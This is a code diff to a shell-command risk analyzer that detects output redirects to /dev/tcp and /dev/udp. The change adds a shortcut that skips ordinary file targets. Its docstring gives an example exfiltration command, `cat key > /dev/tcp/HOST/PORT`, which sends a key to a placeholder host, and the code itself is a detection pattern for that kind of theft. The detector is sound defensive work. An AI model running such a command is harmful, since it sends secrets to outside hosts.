@@ -299,14 +299,19 @@ class Walker(Visitor[Frame, frozenset[Risk]]):
     def redirect_senders(self, node: ast.SimpleCommand, frame: Frame) -> None:
         """`cat key > /dev/tcp/HOST/PORT`: a redirect that sends the command's output over the network."""
         for redirect in node.redirects:
+            target_word = redirect.target
             if (
-                redirect.target is None
+                target_word is None
                 or redirect.fd not in (None, "1")
                 or not redirect.operator.startswith((">", "&>"))
+                # The common case, a literal file (`> out.txt`), is ruled out before normalising it.
+                or not target_word.parts
+                or (type(target_word.parts[0]) is ast.Literal and not target_word.parts[0].text.startswith("/dev/"))
             ):
                 continue
-            for target in normalize_word(redirect.target, frame.env):
-                if literal_prefix(target).startswith(("/dev/tcp/", "/dev/udp/")):
+            for target in normalize_word(target_word, frame.env):
+                known = target.value if target.value is not None else literal_prefix(target)
+                if known.startswith(("/dev/tcp/", "/dev/udp/")):
                     state = self.state
                     flow = self.config.secrets.redirect_sender(
                         node, target, frame.location, frame.env, frame.stdin, state.view()
